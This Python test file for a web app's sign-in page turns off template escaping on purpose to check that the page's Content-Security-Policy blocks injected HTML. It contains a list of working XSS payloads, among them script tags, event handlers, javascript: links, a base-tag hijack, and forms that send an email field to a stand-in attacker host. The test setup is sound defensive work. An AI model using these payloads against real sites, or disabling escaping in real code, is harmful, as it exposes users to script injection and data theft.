"""A page forgets to escape what an attacker wrote: the policy of the page is what still stands in his way (XSS-01).

Escaping is switched off here. Without the policy, which is the second half of each test, all of it acts. A meta refresh
leads away from the page in spite of any policy: against that there is nothing but escaping.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.support.wait import WebDriverWait

from admit.lab.browser.chromium import PATIENCE
from admit.web.pages import look
from browser.chromium import Chromium
from browser.site import EVIL, Site

# Each tells that it acted by asking another site for its name, or by leaving its name at the root of the page.
BY_ITSELF = {
    "inline": "<script>ran('inline')</script>",
    "loaded": "<script src='{evil}/loaded'></script>",
    "handler": "<img src='' onerror=ran('handler')>",
    "drawing": "<svg onload=ran('drawing')></svg>",
    "framed": "<iframe srcdoc='<script>parent.ran(&quot;framed&quot;)</script>'></iframe>",
    "frame": "<iframe src='{evil}/frame'></iframe>",
    "object": "<object data='{evil}/object'></object>",
    "embed": "<embed src='{evil}/embed'>",
    "picture": "<img src='{evil}/picture'>",
    "film": "<video src='{evil}/film'></video>",
    "style": "<link rel=stylesheet href='{evil}/style'>",
    "styled": "<style>body {{ background: url({evil}/styled) }}</style>",
    "base": "<base href='{evil}/'>",
}
# What somebody has to press, and does.
PRESSED = {
    "link": "<a id=press href='javascript:ran(&quot;link&quot;)'>Go on</a>",
    "click": "<a id=press onclick=ran('click')>Go on</a>",
    "form": "<form action='{evil}/form'><input name=email><button id=press>Go on</button></form>",
    "button": "<form action=/sign-in><button id=press formaction='{evil}/button'>Go on</button></form>",
    "ping": "<a id=press href='#main' ping='{evil}/ping'>Go on</a>",
}
ANYTHING = "default-src * data: 'unsafe-inline'"


def let_in(site: Site, browser: Chromium, *markup: str) -> None:
    """Open the page to which somebody came back whose address is ``markup``."""
    templates = site.app.state.pages._templates
    templates.autoescape = False
    templates.bytecode_cache = None  # what was compiled before does escape
    templates.cache.clear()
    browser.go(f"{site.origin}/sign-in")
    evil = site.other(EVIL, "taken").rstrip("/")
    payload = '"></form>' + "".join(markup).format(evil=evil)
    browser.run("arguments[0].type = 'text'; arguments[0].value = arguments[1]", browser.find("#email"), payload)
    browser.press("Sign in")


def acted(site: Site, browser: Chromium) -> set[str]:
    """The names of those that acted."""
    asked = {path.removeprefix(f"{EVIL}/") for path in site.visited}
    left = set(browser.run("return [...document.documentElement.attributes].map(it => it.name)")) - {"lang"}
    based = {"base"} if EVIL in browser.run("return document.baseURI") else set[str]()
    return asked | left | based


def until(browser: Chromium, holds: Callable[[], bool]) -> None:
    """Return once it holds, whatever pages the browser leaves meanwhile."""
    WebDriverWait(browser.driver, PATIENCE, ignored_exceptions=[WebDriverException]).until(lambda _: holds())


@pytest.fixture(autouse=True)
def ran(browser: Chromium) -> None:
    """Every page has ``ran``, by which a script leaves its name: no script of the page could bring it along."""
    browser.before_each_page("window.ran = name => document.documentElement.setAttribute(name, '')")


def test_nothing_of_it_acts_by_itself(site: Site, browser: Chromium, monkeypatch: pytest.MonkeyPatch) -> None:
    let_in(site, browser, *BY_ITSELF.values())
    assert acted(site, browser) == set()
    monkeypatch.setitem(look.HEADERS, "Content-Security-Policy", ANYTHING)
    let_in(site, browser, *BY_ITSELF.values())
    until(browser, lambda: acted(site, browser) >= set(BY_ITSELF))


@pytest.mark.parametrize("name", PRESSED)
def test_nothing_of_it_acts_when_it_is_pressed(
    name: str, site: Site, browser: Chromium, monkeypatch: pytest.MonkeyPatch
) -> None:
    let_in(site, browser, PRESSED[name])
    browser.find("#press").click()
    browser.ask("new Promise(done => setTimeout(done))")  # what a press begins is a task of its own
    assert acted(site, browser) == set()
    monkeypatch.setitem(look.HEADERS, "Content-Security-Policy", ANYTHING)
    let_in(site, browser, PRESSED[name])
    browser.find("#press").click()
    until(browser, lambda: name in acted(site, browser))
